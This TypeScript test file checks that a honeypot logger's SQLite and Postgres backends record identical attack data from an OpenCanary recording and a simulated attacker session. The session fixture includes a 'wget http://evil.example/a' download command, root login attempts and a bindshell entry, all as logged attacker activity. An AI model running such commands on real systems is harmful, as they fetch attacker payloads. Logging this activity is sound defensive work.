import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type AttackReader, attackJson, type ConnectionNode, formatAttack } from '@ihandler/attack-log';
import { createDispatcher, createMemoryJournal, type OriginDeclaration, type Source } from '@ihandler/core';
import logPostgres, { openAttackReader as openPostgres } from '@ihandler/log-postgres';
import { canonicalForest, comparableRow, query, readTables } from '@ihandler/log-postgres/testing';
import logSqlite, { openAttackReader as openSqlite } from '@ihandler/log-sqlite';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';
import { acmeDeclarations, acmeHash, acmeSession } from '../support/outside/acme.ts';
import { opencanary, opencanaryDeclarations } from '../support/outside/opencanary.ts';
import { sqliteTables } from '../support/parity/sqlite-tables.ts';
import { describeService } from '../support/servers/available.ts';
import { type Postgres, startPostgres } from '../support/servers/postgres.ts';

const recording = fileURLToPath(new URL('../recordings/opencanary/opencanary.log', import.meta.url));

async function attacksOf(reader: AttackReader): Promise<ConnectionNode[]> {
  const attacks: ConnectionNode[] = [];
  for await (const attack of reader.attacks()) attacks.push(attack);
  await reader.close();
  return attacks;
}

const sum = (attacks: readonly ConnectionNode[], count: (node: ConnectionNode) => number): number =>
  attacks.reduce((total, node) => total + count(node) + sum(node.children, count), 0);

/** The counts that follow from the lines themselves, without any of our code. */
function countLines() {
  const lines = readFileSync(recording, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  const visits = lines.filter(({ logtype }) => logtype !== 1001);
  const ofType = (...types: number[]) => visits.filter(({ logtype }) => types.includes(logtype));
  const logins = ofType(2000, 3001, 4002, 6001, 7001, 8001, 14001);
  return {
    connections: new Set(
      visits.map((line) => [line.src_host, line.src_port, line.dst_host, line.dst_port].join()),
    ).size,
    credentials: logins.map(({ logdata }) => `${logdata.USERNAME}/${logdata.PASSWORD ?? null}`).sort(),
    requests: ofType(3000, 3002, 3003)
      .map(({ logdata }) => logdata.PATH)
      .sort(),
    commands: ofType(17001)
      .map(({ logdata }) => `${logdata.CMD} ${logdata.ARGS}`)
      .sort(),
    events: visits.length - logins.length - ofType(3000, 3002, 3003, 4001, 17001, 18003).length,
  };
}

describeService('postgres', () => {
  let server: Postgres;
  beforeAll(async () => {
    server = await startPostgres();
  });
  afterAll(() => server.stop());

  /** Databases of both kinds with the incidents of a source that nothing of ours knows. */
  async function stored(
    schema: string,
    declarations: Readonly<Record<string, OriginDeclaration>>,
    source: Pick<Source, 'name' | 'run'>,
  ) {
    const folder = mkdtempSync(join(tmpdir(), 'ihandler-outside-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    const file = join(folder, 'attacks.sqlite');
    const url = `${server.url}?schema=${schema}`;
    await using dispatcher = createDispatcher({
      journal: createMemoryJournal(),
      handlers: [{ handler: logSqlite({ file }) }, { handler: logPostgres({ url }) }],
      origins: [{ origins: declarations }],
      sensor: 'outside',
      dataDir: folder,
    });
    await dispatcher.start();
    await dispatcher.run({ contract: 1, ...source });
    expect(await dispatcher.drain()).toEqual([]);
    return { file, url };
  }

  /** Checks that both databases have the same rows, times, trees and texts. Returns the attacks. */
  async function expectEqual({ file, url }: { file: string; url: string }): Promise<ConnectionNode[]> {
    const ours = Object.entries(await readTables(url)).map(([table, rows]) => [
      table,
      rows.map(comparableRow),
    ]);
    expect(Object.fromEntries(ours)).toEqual(sqliteTables(file));
    expect(await canonicalForest(openPostgres(url))).toEqual(await canonicalForest(await openSqlite(file)));
    const attacks = await attacksOf(await openSqlite(file));
    const others = await attacksOf(openPostgres(url));
    expect(others.map((attack) => formatAttack(attack, { utc: true }))).toEqual(
      attacks.map((attack) => formatAttack(attack, { utc: true })),
    );
    const summaries = [await openSqlite(file), openPostgres(url)].map(async (reader) => {
      const summary = await reader.summary();
      await reader.close();
      return summary;
    });
    const [one, other] = await Promise.all(summaries);
    expect(other).toEqual(one);
    const times = 'SELECT table_name, row, time FROM ihandler_row_times ORDER BY table_name, row';
    const database = new Database(file, { readonly: true });
    onTestFinished(() => {
      database.close();
    });
    const schema = new URL(url).searchParams.get('schema');
    const theirs = await query<{ row: string; time: number }>(
      server.url,
      times.replace('FROM ', `FROM ${schema}.`),
    );
    const recorded = database.prepare(times).all();
    expect(recorded.length).toBeGreaterThan(10);
    expect(theirs.map(({ row, ...rest }) => ({ ...rest, row: Number(row) }))).toEqual(recorded);
    return attacks;
  }

  it('the recording of an opencanary has the same rows in both databases, as many as its lines say', async () => {
    const attacks = await expectEqual(
      await stored('opencanary', opencanaryDeclarations, opencanary(recording)),
    );
    const expected = countLines();
    const details = attacks.map((attack) => attack.details);
    expect(attacks).toHaveLength(expected.connections);
    expect(
      attacks.every(({ row, children }) => row['connection_type'] === 'accept' && children.length === 0),
    ).toBe(true);
    expect(
      details
        .flatMap(({ logins }) => logins.map((row) => `${row['login_username']}/${row['login_password']}`))
        .sort(),
    ).toEqual(expected.credentials);
    expect(details.flatMap((each) => each.ihandler_login_outcomes.map((row) => row['outcome']))).toEqual(
      expected.credentials.map(() => 'failure'),
    );
    expect(details.flatMap((each) => each.ihandler_requests.map((row) => row['target'])).sort()).toEqual(
      expected.requests,
    );
    expect(details.flatMap((each) => each.ihandler_commands.map((row) => row['input'])).sort()).toEqual(
      expected.commands,
    );
    expect(sum(attacks, (node) => node.details.ihandler_events.length)).toBe(expected.events);
  });

  it('a session of a sensor from outside reads as what the attacker did, in order, in both databases', async () => {
    const { incidents } = acmeSession('s1', { text: 'evil.example' });
    const [attack] = await expectEqual(
      await stored('acme', acmeDeclarations, { name: 'acme', run: (context) => context.report(incidents) }),
    );
    if (attack === undefined) throw new Error('there is no attack');
    expect(formatAttack(attack, { utc: true })).toBe(`2020-09-13 12:26:41Z on sensor
connection 1 smbd tcp accept 192.0.2.1:445 <- 198.51.100.7:40000
│  client          ssh SSH-2.0-evil.example fingerprint 'evil.example' {"kex":["evil.example"]}
│  login           ✘ user 'root' password 'evil.example'
│  login           ✔ key evil.example user 'root' password 'second'
│  command         'wget http://evil.example/a'
│  offer           http://evil.example/a
│  download        ${acmeHash} http://evil.example/a
│                  size 1234 name evil.example file /dl/evil.example
│                  verdict 3/70 2020-09-13 12:26:40Z https://vt.example/evil.example
│  command         ✗ 'nosuch evil.example\\x1b[2J'
│  request         GET /evil.example agent 'evil.example' status 404
│  exploit         CVE-2026-24061 'evil.example'
│  service         bindshell://4444
│  message         topic 'tunnel' payload 'evil.example'
│  event           acme.resized {"note":"evil.example","width":80}
│  tty             ${acmeHash} size 99 3 s
│  end             closed after 12 s
└─ connection 2 direct-tcpip tcp connect 192.0.2.1:445 -> 192.0.2.99:40000 +11 s
`);
    const json = JSON.parse(attackJson(attack));
    expect(json.ihandler_commands).toMatchObject([
      { realm: 'shell', input: 'wget http://evil.example/a', outcome: 'success', time: 1_600_000_005 },
      { outcome: 'failure' },
    ]);
    expect(json.logins).toMatchObject([{ time: 1_600_000_003 }, { time: 1_600_000_004 }]);
    expect(json.ihandler_downloads).toMatchObject([{ sha256: acmeHash, size: 1234 }]);
    expect(json.children).toMatchObject([
      { connection_type: 'connect', connection_protocol: 'direct-tcpip' },
    ]);
  });
});
